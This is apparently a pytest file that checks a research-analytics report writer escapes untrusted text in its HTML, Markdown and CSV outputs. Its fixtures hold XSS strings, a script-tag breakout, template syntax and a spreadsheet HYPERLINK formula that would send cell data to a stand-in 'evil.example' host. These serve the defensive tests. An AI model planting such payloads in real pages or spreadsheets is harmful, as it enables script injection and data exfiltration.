"""The run report, through the real writer: it renders offline, its images are PNGs that
exist beside it, untrusted text is escaped, a failed run explains itself, and the review
sample is reproducible. No Spark needed: the writer takes plain pandas frames."""
from __future__ import annotations

import base64
import json
from html.parser import HTMLParser

import pandas as pd
import pytest

from paperscope.report.audit import AUDIT_COLUMNS
from paperscope.report.words import sentences
from paperscope.report.writer import RunReport, versions, write

PNG = b"\x89PNG\r\n\x1a\n"
EVIL_TITLE = "On <script>alert(1)</script> Robustness"
EVIL_AFF = 'Lab "<img src=x onerror=alert(2)>", Beijing, China'
# Template syntax, a closing script tag and a spreadsheet formula: data, never code.
JINJA_TITLE = "{{ 7*7 }} {% if 1 %}x{% endif %} </script><script>alert(3)</script> | pipe"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class Page(HTMLParser):
    """Tags, image sources with the link around them, and the text, as a browser sees them."""

    def __init__(self):
        super().__init__()
        self.tags, self.images, self.text, self.links = [], [], [], []
        self._href = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append(tag)
        if tag == "a":
            self._href = attrs.get("href")
            self.links.append(self._href)
        if tag == "img":
            self.images.append((attrs.get("src"), self._href))

    def handle_endtag(self, tag):
        if tag == "a":
            self._href = None

    def handle_data(self, data):
        self.text.append(data)


def _parse(path) -> Page:
    page = Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def _rows_of(path) -> list[list]:
    """A list page's rows as its script reads them: the JSON inside the page."""
    raw = path.read_text(encoding="utf-8")
    data = raw.split('<script type="application/json" id="rows-data">', 1)[1].split("</script>", 1)[0]
    return json.loads(data)["rows"]


def _frames():
    audit = pd.DataFrame([
        ("p1", 2025, EVIL_TITLE, "/c/2025/a.pdf", "ok", EVIL_AFF, "block", None, "CN", "address", "'Beijing' -> CN", 0.8),
        ("p1", 2025, EVIL_TITLE, "/c/2025/a.pdf", "ok", "MIT, Cambridge, MA", "block", "MIT", "US", "alias",
         "'MIT' -> MIT (US)", 1.0),
        ("p2", 2025, "Plain Title", "/c/2025/b.pdf", "ok", "Oxford", "block", "University of Oxford", "GB", "exact",
         "'Oxford'", 1.0),
        ("p3", 2024, None, "/c/2024/c.pdf", "corrupt", None, None, None, None, None, None, None),
        ("p4", 2024, JINJA_TITLE, "/c/2024/d.pdf", "ok", "@SUM(1+1)", "header", None, None, None, None, None),
        ("p5", 2024, FORMULA_TITLE, "/c/2024/e.pdf", "ok", None, None, None, None, None, None, None),
    ], columns=["paper_id", "year", "title", "path", "status", "raw", "source", "institution", "country", "method",
                "evidence", "score"])
    audit["matched_text"] = "extra column from a newer matcher"
    mentions = pd.DataFrame([("p1", "Qwen", 3, 2), ("p1", "Llama", 1, 0), ("p2", "Transformer", 2, 2)],
                            columns=["paper_id", "term", "count_full", "count_body"])
    collab = pd.DataFrame([(2024, 1, 0, 0, 0, 0, 0, 1, 0.0, 0.0, 0.0), (2025, 2, 2, 1, 1, 1, 1, 0, 0.5, 0.5, 0.5)],
                          columns=["year", "papers", "papers_ok", "with_us", "with_cn", "with_both", "with_neither",
                                   "with_unknown", "share_us", "share_cn", "share_both"])
    groups = pd.DataFrame([(2025, "Qwen", 1, 1, 1, 1, 0, 0, "body", "model family", "Alibaba", "CN"),
                           (2025, "Transformer", 1, 0, 0, 0, 1, 0, "body", "architecture", "Google", "US")],
                          columns=["year", "term", "papers", "with_cn", "with_us", "with_both", "with_neither",
                                   "with_unknown", "scope", "kind", "origin", "origin_country"])
    inputs = pd.DataFrame({"year": [2024, 2025], "files": [1, 2], "corrupt": [1, 0], "ok": [0, 2]})
    failures = pd.DataFrame([(2024, "/c/2024/c.pdf", "corrupt", "<b>xref</b> broken")],
                            columns=["year", "path", "status", "error"])
    return audit, mentions, collab, groups, inputs, failures


def _reports(**values):
    from paperscope.core.config import load_config

    return load_config(None, [f"reports.{k}={v}" for k, v in values.items()]).reports


def _meta(tmp_path, status="passed", message=None):
    docs = tmp_path / "run" / "data_docs" / "index.html"
    docs.parent.mkdir(parents=True, exist_ok=True)
    docs.write_text("<html></html>")
    return {"run_id": "r1", "started": "2026-11-21T00:00:00+00:00", "conf_file": None, "status": status,
            "message": message, "years": [2024, 2025], "input": "/c", "warehouse": "/w", "china_policy": "mainland",
            "mention_scope": "body", "durations": {"extract": 1.5}, "config": {"title": "<script>cfg</script>"},
            "data_docs": str(docs), "versions": versions("4.1.1")}


GATE = [{"suite": "papers", "expectation": "expect_column_values_to_be_unique", "column": "paper_id",
         "success": True, "observed": "unexpected 0 of 3"}]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("report")
    audit, mentions, collab, groups, inputs, failures = _frames()
    paths = write(tmp / "run", RunReport(meta=_meta(tmp), inputs=inputs, gate=GATE,
                                         gold={"collaboration": collab, "term_groups": groups}, audit=audit,
                                         mentions=mentions, failures=failures, reports=_reports(seed=7)))
    return tmp / "run", paths


def test_html_renders_with_embedded_pngs_that_also_exist_beside_it(written):
    run_dir, paths = written
    page = _parse(run_dir / "index.html")
    assert len(page.images) == 2
    for src, href in page.images:
        assert src.startswith("data:image/png;base64,")
        assert base64.b64decode(src.split(",", 1)[1]).startswith(PNG)
        assert href and (run_dir / href).read_bytes().startswith(PNG)
        assert (run_dir / href).read_bytes() == base64.b64decode(src.split(",", 1)[1])
    assert "data_docs/index.html" in page.links and (run_dir / "data_docs" / "index.html").is_file()
    assert not any(link.startswith(("http:", "https:", "//")) for link in page.links if link)
    assert "link" not in page.tags and "script" not in page.tags
    assert paths["html"].endswith("index.html")


def test_untrusted_text_is_escaped_everywhere(written):
    run_dir, _ = written
    page = _parse(run_dir / "index.html")
    assert page.tags.count("img") == 2, "only the two charts are images"
    text = "".join(page.text)
    assert "<b>xref</b> broken" in text and "<script>cfg</script>" in text
    raw = (run_dir / "index.html").read_text(encoding="utf-8")
    assert "<script>" not in raw and "<b>xref" not in raw
    audit = (run_dir / "audit.html").read_text(encoding="utf-8")
    assert "<script>alert" not in audit and "<img src=x" not in audit  # the rows are JSON with < as \u003c
    cells = {c for row in _rows_of(run_dir / "audit.html") for c in row}
    assert EVIL_TITLE in cells and any(EVIL_AFF in str(c) for c in cells)
    review = "".join(_parse(run_dir / "review.html").text)
    assert EVIL_TITLE in review
    summary = (run_dir / "summary.md").read_text(encoding="utf-8")
    assert "<script>alert" not in summary and "&lt;b&gt;xref&lt;/b&gt; broken" in summary
    assert "<img src=x" not in summary


def test_report_has_sentences_audit_review_and_metadata(written):
    run_dir, _ = written
    text = "".join(_parse(run_dir / "index.html").text)
    assert "2025: 1 of 2 papers (50.0%) involve authors at both US and Chinese institutions." in text
    assert "2025: Qwen is named in 1 paper with authors from Chinese institutions." in text
    assert "2025: Transformer is named in 0 papers with authors from US institutions." in text
    assert "mainland China (CN)" in text and "before the references" in text
    for word in ("pdfminer.six", "great-expectations", "pyspark", "delta-spark", "python", "corrupt 1", "extract"):
        assert word in text
    audit = pd.read_csv(run_dir / "audit.csv")
    assert list(audit.columns[:len(AUDIT_COLUMNS)]) == AUDIT_COLUMNS and "matched_text" in audit.columns
    p1 = audit[audit["paper_id"] == "p1"]
    assert set(p1["terms_body"]) == {"Qwen"}  # Llama is only in the references
    assert set(p1["terms (body/full)"]) == {"Qwen 2/3; Llama 0/1"}
    review = pd.read_csv(run_dir / "review_sample.csv", dtype=str, keep_default_na=False)
    assert {"us_correct", "cn_correct", "verdict", "corrected_country", "reviewer", "note"} <= set(review.columns)
    record = json.loads((run_dir / "run.json").read_text())
    assert record["review_sample"] == list(review.loc[review["raw"] == "", "paper_id"])
    assert set(record["review_sample"]) == {"p1", "p2", "p3", "p4", "p5"}  # every stratum is larger than this corpus
    assert record["status_counts"] == {"corrupt": 1, "ok": 2}


def test_template_syntax_in_a_title_is_shown_not_run(written):
    run_dir, _ = written
    raw = (run_dir / "audit.html").read_text(encoding="utf-8")
    assert JINJA_TITLE in {c for row in _rows_of(run_dir / "audit.html") for c in row}
    assert "49 x" not in raw and "</script><script>alert(3)" not in raw
    assert raw.count("</script>") == 3  # the rows, table.js, the call: nothing from a title closes one
    assert "script" not in _parse(run_dir / "index.html").tags
    summary = (run_dir / "summary.md").read_text(encoding="utf-8")
    assert "</script><script>alert(3)" not in summary


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(written):
    run_dir, _ = written
    for name in ("audit.csv", "review_sample.csv"):
        sheet = pd.read_csv(run_dir / name, dtype=str, keep_default_na=False)
        cells = [c for col in sheet.columns for c in sheet[col]]
        assert "'" + FORMULA_TITLE in cells, name
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), name
    audit = pd.read_csv(run_dir / "audit.csv", dtype=str, keep_default_na=False)
    assert "'@SUM(1+1)" in set(audit["raw"])
    assert FORMULA_TITLE in {c for row in _rows_of(run_dir / "audit.html") for c in row}  # shown as it is


def test_templates_ship_inside_the_package():
    from importlib import resources

    folder = resources.files("paperscope") / "data" / "templates"
    assert {"index.html.j2", "summary.md.j2"} <= {p.name for p in folder.iterdir()}


def test_failed_gate_run_gets_an_index_that_says_why(tmp_path):
    audit, mentions, _, _, inputs, failures = _frames()
    failed = [{**GATE[0], "success": False, "observed": "unexpected 1 of 3"}]
    write(tmp_path / "run", RunReport(meta=_meta(tmp_path, "failed", "quality gate failed, aggregates not written:\npapers: x"),
                                      inputs=inputs, gate=failed, audit=audit, mentions=mentions, failures=failures))
    page = _parse(tmp_path / "run" / "index.html")
    text = "".join(page.text)
    assert page.images == []
    assert "No answer: the quality gate did not pass" in text and "0 of 1 expectations passed" in text
    assert "quality gate failed, aggregates not written" in text
    assert not (tmp_path / "run" / "collaboration_share.png").exists()


def test_china_policy_wording():
    collab = pd.DataFrame([(2025, 10, 3)], columns=["year", "papers", "with_both"])
    assert sentences(collab, "greater") == [
        "2025: 3 of 10 papers (30.0%) involve authors at both US and Chinese (incl. Hong Kong, Macao, Taiwan) "
        "institutions."]


@pytest.mark.parametrize("setting", ["review.strata.rest=-1", "reports.seed=abc", "reports.top_terms=true"])
def test_report_settings_are_checked(setting):
    from paperscope.core.config import ConfigError, load_config

    with pytest.raises(ConfigError, match=setting.split("=")[0]):
        load_config(None, [setting])


def _gold_with_rules():
    """Six papers of 2024 (tests/test_rules.py's frames) through the counting functions."""
    from paperscope.counting import rules

    authors = pd.DataFrame([{"paper_id": pid, "year": 2024, "position": i, "n_authors": len(per),
                             "affiliation_countries": c}
                            for pid, *per in [("p1", [["US"]], [["CN"]], [["US"]]), ("p2", [["CN", "US"]]),
                                              ("p3", [["CN"]], [], [["US"]]), ("p4", [["GB"]], [["US"]]),
                                              ("p6", [["HK"]], [["US"]])]
                            for i, c in enumerate(per, 1)])
    papers = pd.DataFrame({"paper_id": ["p1", "p2", "p3", "p4", "p5", "p6"], "year": 2024})
    aff = pd.DataFrame([("p1", "Stanford", "US", "S"), ("p1", "Tsinghua", "CN", "T"), ("p2", "NYU Shanghai", "US", "N"),
                        ("p2", "NYU Shanghai", "CN", "NS"), ("p3", "Tsinghua", "CN", "T"), ("p3", "Stanford", "US", "S"),
                        ("p4", "Oxford", "GB", "O"), ("p4", "Stanford", "US", "S"), ("p6", "CUHK", "HK", "C"),
                        ("p6", "Stanford", "US", "S")], columns=["paper_id", "raw", "country", "institution"])
    aff["year"] = 2024
    shares = {"min_share": 1 / 3, "min_authors": 2}
    per = rules.paper_rule_flags(papers, aff, authors, **shares)
    counts = rules.count_rules(papers, aff, authors, per_paper=per, **shares)
    from paperscope.counting.aggregates import collaboration

    collab = collaboration(papers.assign(status="ok"), aff, "mainland")
    audit = papers.merge(aff.drop(columns="year"), on="paper_id", how="left").assign(
        title=lambda d: "Title of " + d["paper_id"], path=lambda d: "/c/2024/" + d["paper_id"] + ".pdf", status="ok")
    audit.loc[audit["paper_id"] == "p1", "title"] = FORMULA_TITLE
    gold = {"collaboration": collab, "rules": counts, "paper_rules": per,
            "institution_pairs": rules.institution_pairs(aff, rules.counted_papers(papers, aff, authors, "any_author",
                                                                                   "mainland", **shares), "mainland")}
    return gold, audit


def test_answer_first_and_every_figure_links_exactly_its_papers(tmp_path):
    """The answer is the page's first block, its figure links the CSV of its papers, and each
    per-rule export has, per year, exactly as many rows as the figure (fractional: weights
    that add up to it); a metadata run's empty mentions say why."""
    gold, audit = _gold_with_rules()
    meta = {**_meta(tmp_path), "years": [2024], "from_metadata": True,
            "config": {"aggregates": {"headline_rule": "any_author", "rules": list(gold["rules"]["rule"].unique()),
                                      "min_share": 1 / 3, "min_authors": 2}}}
    reports = _reports(references="{2024: {papers: 6, with_both: 1, source: WIRED}}", min_papers=3)
    write(tmp_path / "run", RunReport(meta=meta, inputs=pd.DataFrame({"year": [2024], "files": [6], "ok": [6]}),
                                      gate=GATE, gold=gold, audit=audit, reports=reports))
    run_dir = tmp_path / "run"
    raw = (run_dir / "index.html").read_text(encoding="utf-8")
    assert raw.index('<section id="answer">') < raw.index('<section id="charts">') < raw.index('<section id="rules">')
    answer_html = raw.split('<section id="answer">', 1)[1].split("</section>", 1)[0]
    assert "2024: 3 of 6 papers (50.0%) involve authors at both US and Chinese institutions." in answer_html
    assert 'href="papers_any_author_mainland_kept.csv"' in answer_html
    assert "WIRED reported 1 of 6 papers (16.7%) for 2024; the closest rule here is first_last, 1 (16.7%)." in answer_html
    assert "A rule landing near the published figure does not show" in answer_html
    text = "".join(_parse(run_dir / "index.html").text)
    assert "None: this run read conference metadata" in text and "Glossary" in text and "dual strings" in text
    for r in gold["rules"].itertuples():
        name = f"papers_{r.rule}_{r.china_policy}_{'kept' if r.dual_strings else 'left_out'}.csv"
        assert f'href="{name}"' in raw, name
        rows = pd.read_csv(run_dir / name)
        mine = rows[rows["year"] == r.year]
        if r.rule == "fractional":
            assert mine["fractional_weight"].sum() == pytest.approx(r.with_both, abs=1e-5), name
        else:
            assert len(mine) == r.with_both, name
    first_last = pd.read_csv(run_dir / "papers_first_last_mainland_kept.csv")
    assert first_last[["paper_id", "title", "authors' countries (by position)"]].values.tolist() == [
        ["p3", "Title of p3", "1 CN; 2 ?; 3 US"]]
    any_author = pd.read_csv(run_dir / "papers_any_author_mainland_kept.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA_TITLE in set(any_author["title"])  # written through core.escape
    flags = _rows_of(run_dir / "papers.html")
    assert len(flags) == 6 and {r[1] for r in flags} == {"p1", "p2", "p3", "p4", "p5", "p6"}
    record = json.loads((run_dir / "run.json").read_text())
    assert record["answer"][0]["with_both"] == 3 and len(record["exports"]) == 28
